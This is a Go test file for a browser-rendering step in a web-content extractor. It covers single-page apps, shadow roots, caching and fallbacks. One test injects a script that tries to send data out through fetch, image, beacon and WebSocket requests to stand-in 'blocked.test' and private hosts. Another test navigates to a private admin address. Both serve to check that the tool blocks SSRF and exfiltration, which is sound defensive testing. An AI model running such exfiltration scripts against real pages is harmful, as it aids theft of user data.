package browser

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gatehouse-dev/gatehouse/internal/browser/renderstep"
	"github.com/gatehouse-dev/gatehouse/internal/config"
	"github.com/gatehouse-dev/gatehouse/internal/reason"
	"github.com/gatehouse-dev/gatehouse/internal/web"
	"github.com/gatehouse-dev/gatehouse/internal/web/provider"
	"github.com/gatehouse-dev/gatehouse/internal/web/provider/direct"
)

// spaServer serves single-page apps whose content a script builds after
// load, and counts requests per path.
type spaServer struct {
	*httptest.Server
	ap   netip.AddrPort
	mu   sync.Mutex
	hits map[string]int
}

func (s *spaServer) count(path string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.hits[path]
}

func (s *spaServer) total() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, v := range s.hits {
		n += v
	}
	return n
}

func (s *spaServer) url(host, path string) string {
	return fmt.Sprintf("http://%s:%d%s", host, s.ap.Port(), path)
}

const spaParas = `["The harbour master kept the lights burning through the long winter nights.",
"Every ship that passed the rocks owed him its safe passage home, and the town knew it.",
"In spring the council gave him a medal, which he hung above the lamp he had tended for forty years."]`

func newSPAServer(t *testing.T, h http.HandlerFunc) *spaServer {
	s := &spaServer{hits: map[string]int{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.hits[r.URL.Path]++
		s.mu.Unlock()
		h(w, r)
	}))
	t.Cleanup(s.Close)
	s.ap = netip.MustParseAddrPort(s.Listener.Addr().String())
	return s
}

func spaPage(extraScript string) string {
	return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Harbour App</title>
<meta name="description" content="A single-page app."></head>
<body><div id="root"></div><noscript>You need to enable JavaScript to run this app.</noscript>
<script>
fetch('/api/story').then(r => r.json()).then(d => {
  const a = document.createElement('article');
  a.innerHTML = '<h1>' + d.title + '</h1>' + d.paras.map(p => '<p>' + p + '</p>').join('');
  document.getElementById('root').appendChild(a);
});
` + extraScript + `
</script></body></html>`
}

func serveSPA(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/api/story":
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"title":"Harbour lights","paras":%s}`, spaParas)
	case "/shadow":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<!doctype html><html><head><title>Shadow</title></head><body><story-card></story-card>
<iframe src="/frame"></iframe>
<script>
customElements.define('story-card', class extends HTMLElement {
  constructor() { super(); const r = this.attachShadow({mode: 'open'});
    r.innerHTML = '<article><h1>Shadow story</h1><p>The keeper climbed the tower in the storm to mend the lamp by hand before the first ship came round the point.</p><slot></slot></article>'; }
});
</script></body></html>`)
	case "/frame":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<html><body><p>Inside the same-origin frame: the harbour master's letter of thanks to the keeper and his family, read aloud at the town hall.</p></body></html>`)
	default:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, spaPage(r.URL.Query().Get("x")))
	}
}

// renderSetup returns the shared Manager and a direct backend whose guard
// (web_extract's: private addresses refused) reaches only srv.
func renderSetup(t *testing.T, srv *spaServer, mode string) (*Manager, *direct.Direct) {
	m, _ := manager(t)
	guard, _ := web.NewGuard(config.Default(), hostResolver{}, []netip.AddrPort{srv.ap})
	return m, direct.New(direct.Options{Guard: guard, Timeout: 30 * time.Second, Render: mode, Renderer: m})
}

func TestRenderSPAFetchingItsData(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	_, d := renderSetup(t, srv, provider.RenderAuto)
	ctx := context.Background()
	p := d.FetchMode(ctx, srv.url("spa.test", "/app"), provider.RenderAuto)
	if p.Err != nil {
		t.Fatal(p.Err)
	}
	if !p.Rendered || p.RenderTime <= 0 || !strings.Contains(p.Content, "forty years") || p.Title != "Harbour lights" && p.Title != "Harbour App" {
		t.Fatalf("rendered=%v time=%v title=%q content=%q", p.Rendered, p.RenderTime, p.Title, p.Content)
	}
	if strings.Contains(p.Content, "enable JavaScript") {
		t.Errorf("noscript text kept: %q", p.Content)
	}
	if p.Meta.Description != "A single-page app." || p.Meta.Language != "en" {
		t.Errorf("meta %+v", p.Meta)
	}
	if srv.count("/api/story") != 1 {
		t.Errorf("data fetched %d times, want 1", srv.count("/api/story"))
	}
	t.Logf("render took %v", p.RenderTime)

	// render: never gives today's result.
	n := d.FetchMode(ctx, srv.url("spa.test", "/app"), provider.RenderNever)
	if reason.Of(n.Err) != reason.EmptyContent || n.Rendered {
		t.Fatalf("never: err=%v rendered=%v", n.Err, n.Rendered)
	}
}

func TestRenderSPABlockedHostsGetNoRequest(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	other := newSPAServer(t, serveSPA) // a private address the extract guard does not allow
	_, d := renderSetup(t, srv, provider.RenderAuto)
	script := fmt.Sprintf(`fetch(%q).catch(() => {}); fetch(%q).catch(() => {});
new Image().src = %q; navigator.sendBeacon(%q, 'x');
try { new WebSocket(%q); } catch (e) {}`,
		srv.url("blocked.test", "/steal-fetch"), other.url("internal.test", "/steal-private"),
		srv.url("blocked.test", "/steal-img"), srv.url("blocked.test", "/steal-beacon"),
		strings.Replace(srv.url("blocked.test", "/steal-ws"), "http:", "ws:", 1))
	u := srv.url("spa.test", "/app") + "?x=" + urlQueryEscape(script)
	p := d.FetchMode(context.Background(), u, provider.RenderAlways)
	if p.Err != nil || !p.Rendered || !strings.Contains(p.Content, "forty years") {
		t.Fatalf("err=%v rendered=%v content=%q", p.Err, p.Rendered, p.Content)
	}
	for _, path := range []string{"/steal-fetch", "/steal-img", "/steal-beacon", "/steal-ws"} {
		if n := srv.count(path); n != 0 {
			t.Errorf("blocked.test got %d requests for %s", n, path)
		}
	}
	if n := other.total(); n != 0 {
		t.Errorf("the private server got %d requests", n)
	}
}

func TestRenderShadowRootsAndSameOriginFrames(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	_, d := renderSetup(t, srv, provider.RenderAlways)
	p := d.FetchMode(context.Background(), srv.url("spa.test", "/shadow"), provider.RenderAlways)
	if p.Err != nil || !p.Rendered {
		t.Fatalf("err=%v rendered=%v", p.Err, p.Rendered)
	}
	for _, want := range []string{"mend the lamp by hand", "letter of thanks"} {
		if !strings.Contains(p.Content, want) {
			t.Errorf("content lacks %q: %q", want, p.Content)
		}
	}
}

func TestRenderScriptNavigationToRefusedAddressRefused(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	_, d := renderSetup(t, srv, provider.RenderAlways)
	u := srv.url("spa.test", "/app") + "?x=" + urlQueryEscape(`location.href = "http://10.9.8.7/admin";`)
	p := d.FetchMode(context.Background(), u, provider.RenderAlways)
	if code := reason.Of(p.Err); code != reason.RedirectPrivate && code != reason.SSRFPrivate {
		t.Fatalf("err = %v (%s), content %q", p.Err, code, p.Content)
	}
}

func TestRenderThroughExtractPipelineCachedWithRenderedKey(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	m, _ := manager(t)
	cfg := config.Default()
	svc, _ := web.Open(web.Env{Home: t.TempDir(), Config: cfg, Resolver: hostResolver{}, AllowAddrPorts: []netip.AddrPort{srv.ap}, Renderer: m})
	ctx := context.Background()
	u := srv.url("spa.test", "/app")
	r := svc.Extract(ctx, web.ExtractRequest{URLs: []any{u}}).Results[0]
	if !r.OK() || !r.Meta.Rendered || r.Meta.RenderMS <= 0 || !strings.Contains(r.Content, "forty years") {
		t.Fatalf("row %+v meta %+v", r, r.Meta)
	}
	again := svc.Extract(ctx, web.ExtractRequest{URLs: []any{u}}).Results[0]
	if !again.Meta.Cached || !again.Meta.Rendered || again.Content != r.Content {
		t.Fatalf("second: cached=%v rendered=%v", again.Meta.Cached, again.Meta.Rendered)
	}
	// A call that asks for no rendering is never served the rendering.
	never := svc.Extract(ctx, web.ExtractRequest{URLs: []any{u}, Render: "never"}).Results[0]
	if never.Reason != reason.EmptyContent {
		t.Fatalf("never: %+v", never)
	}
}

func TestRenderUnavailableKeepsFetchedResult(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	guard, _ := web.NewGuard(config.Default(), hostResolver{}, []netip.AddrPort{srv.ap})
	m, _ := New(Options{Config: func() *config.Config {
		c := config.Default()
		c.Browser.ExecutablePath = "/nonexistent/chromium"
		return c
	}()})
	defer m.Close()
	d := direct.New(direct.Options{Guard: guard, Renderer: m})
	p := d.FetchMode(context.Background(), srv.url("spa.test", "/app"), provider.RenderAuto)
	if reason.Of(p.Err) != reason.EmptyContent || p.RenderUnavailable != string(reason.ChromiumMissing) || len(p.Notes) == 0 {
		t.Fatalf("auto without Chromium: err=%v unavailable=%q notes=%v", p.Err, p.RenderUnavailable, p.Notes)
	}
	a := d.FetchMode(context.Background(), srv.url("spa.test", "/app"), provider.RenderAlways)
	if reason.Of(a.Err) != reason.ChromiumMissing {
		t.Fatalf("always without Chromium: err=%v", a.Err)
	}
}

func urlQueryEscape(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_' || c == '.' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// articlePage is a server-rendered article; extra goes at the end of <body>.
func articlePage(extra string) string {
	var b strings.Builder
	b.WriteString(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Lighthouse keeper</title></head><body><article><h1>Lighthouse keeper</h1>`)
	for i := 0; i < 8; i++ {
		fmt.Fprintf(&b, "<p>Paragraph %d. The keeper climbed the hundred steps every evening at dusk, trimmed the wick, polished the great lens and wrote the weather into the log before the first ship came round the point.</p>", i)
	}
	b.WriteString(`</article>` + extra + `</body></html>`)
	return b.String()
}

func TestRenderRefusesNonTextResources(t *testing.T) {
	srv := newSPAServer(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/r/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			fmt.Fprint(w, `fetch('/api/story').then(r => r.json()).then(d => {
  const p = document.createElement('p'); p.textContent = d.paras[2]; document.querySelector('article').appendChild(p); });`)
		case "/api/story":
			serveSPA(w, r)
		case "/page":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, articlePage(`<img src="/r/photo.png" alt=""><link rel="stylesheet" href="/r/site.css">
<style>@font-face { font-family: Keeper; src: url(/r/keeper.woff2); } body { font-family: Keeper; }</style>
<video src="/r/clip.mp4" autoplay muted></video><script src="/r/app.js"></script>`))
		default:
			http.NotFound(w, r)
		}
	})
	_, d := renderSetup(t, srv, provider.RenderAlways)
	p := d.FetchMode(context.Background(), srv.url("spa.test", "/page"), provider.RenderAlways)
	if p.Err != nil || !p.Rendered || !strings.Contains(p.Content, "forty years") {
		t.Fatalf("err=%v rendered=%v notes=%v content=%q", p.Err, p.Rendered, p.Notes, p.Content)
	}
	for _, path := range []string{"/r/photo.png", "/r/keeper.woff2", "/r/clip.mp4"} {
		if n := srv.count(path); n != 0 {
			t.Errorf("%s requested %d times by the render context, want 0", path, n)
		}
	}
	// Style sheets load (they say what is hidden: render.js drops it), and
	// the page itself was fetched once, by the direct backend. (This style
	// sheet is a 404, which Chromium does not cache: its preload scanner
	// and then its parser may each ask for it, as a render trace shows.)
	if n := srv.count("/r/site.css"); n < 1 || n > 2 || srv.count("/page") != 1 {
		t.Errorf("style sheet requested %d times, the page %d times; want 1 or 2 and 1", n, srv.count("/page"))
	}
	if srv.count("/r/app.js") != 1 || srv.count("/api/story") != 1 {
		t.Errorf("script requested %d times, its data %d times; want 1 and 1", srv.count("/r/app.js"), srv.count("/api/story"))
	}
}

func TestRenderInterstitialKeepsFetchedArticle(t *testing.T) {
	srv := newSPAServer(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		// A bot check whose own requests failed replaces the article.
		fmt.Fprint(w, articlePage(`<script>document.body.innerHTML = '<h1>One moment</h1><p>This page is not available right now. Please try again later.</p>';</script>`))
	})
	_, d := renderSetup(t, srv, provider.RenderAlways)
	p := d.FetchMode(context.Background(), srv.url("spa.test", "/story"), provider.RenderAlways)
	if p.Err != nil || p.Rendered || p.RenderDiscarded != direct.DiscardedLessText || p.RenderTime <= 0 {
		t.Fatalf("err=%v rendered=%v discarded=%q time=%v", p.Err, p.Rendered, p.RenderDiscarded, p.RenderTime)
	}
	if !strings.Contains(p.Content, "polished the great lens") || strings.Contains(p.Content, "not available") {
		t.Fatalf("content %q", p.Content)
	}
	if len(p.Notes) == 0 || !strings.Contains(p.Notes[0], "less than half") {
		t.Fatalf("notes %v", p.Notes)
	}
	// The row's meta says so through the tool pipeline.
	m, _ := manager(t)
	svc, _ := web.Open(web.Env{Home: t.TempDir(), Config: config.Default(), Resolver: hostResolver{}, AllowAddrPorts: []netip.AddrPort{srv.ap}, Renderer: m})
	r := svc.Extract(context.Background(), web.ExtractRequest{URLs: []any{srv.url("spa.test", "/story")}, Render: "always"}).Results[0]
	if !r.OK() || r.Meta.Rendered || r.Meta.RenderDiscarded != direct.DiscardedLessText || r.Meta.RenderMS <= 0 || !strings.Contains(r.Content, "polished the great lens") {
		t.Fatalf("row %+v meta %+v", r, r.Meta)
	}
}

func TestRenderEndingOnHTTPErrorKeepsFetchedPage(t *testing.T) {
	srv := newSPAServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/story" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, articlePage(`<script>location.replace('/adblock-detected');</script>`))
			return
		}
		http.NotFound(w, r)
	})
	_, d := renderSetup(t, srv, provider.RenderAlways)
	p := d.FetchMode(context.Background(), srv.url("spa.test", "/story"), provider.RenderAlways)
	if p.Err != nil || p.Rendered || p.RenderUnavailable != string(reason.NavigationFailed) {
		t.Fatalf("err=%v rendered=%v unavailable=%q notes=%v", p.Err, p.Rendered, p.RenderUnavailable, p.Notes)
	}
	if !strings.Contains(p.Content, "polished the great lens") || len(p.Notes) == 0 || !strings.Contains(p.Notes[0], "HTTP 404") {
		t.Fatalf("notes %v content %q", p.Notes, p.Content)
	}
	if srv.count("/adblock-detected") != 1 {
		t.Errorf("the script's navigation was not followed (%d)", srv.count("/adblock-detected"))
	}
}

func TestRenderKeepsSpareContexts(t *testing.T) {
	srv := newSPAServer(t, serveSPA)
	m, d := renderSetup(t, srv, provider.RenderAlways)
	ctx := context.Background()
	if p := d.FetchMode(ctx, srv.url("spa.test", "/app"), provider.RenderAlways); !p.Rendered {
		t.Fatalf("first render: err=%v notes=%v", p.Err, p.Notes)
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		n := m.rend.SparesReady()
		if n == renderstep.Spares {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d spare render contexts after 30 s, want %d", n, renderstep.Spares)
		}
		time.Sleep(20 * time.Millisecond)
	}
	// A burst of two takes both.
	var wg sync.WaitGroup
	for i := 0; i < 2; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if p := d.FetchMode(ctx, srv.url("spa.test", fmt.Sprintf("/app?i=%d", i)), provider.RenderAlways); !p.Rendered || !strings.Contains(p.Content, "forty years") {
				t.Errorf("burst render %d: err=%v notes=%v", i, p.Err, p.Notes)
			}
		}()
	}
	wg.Wait()
}
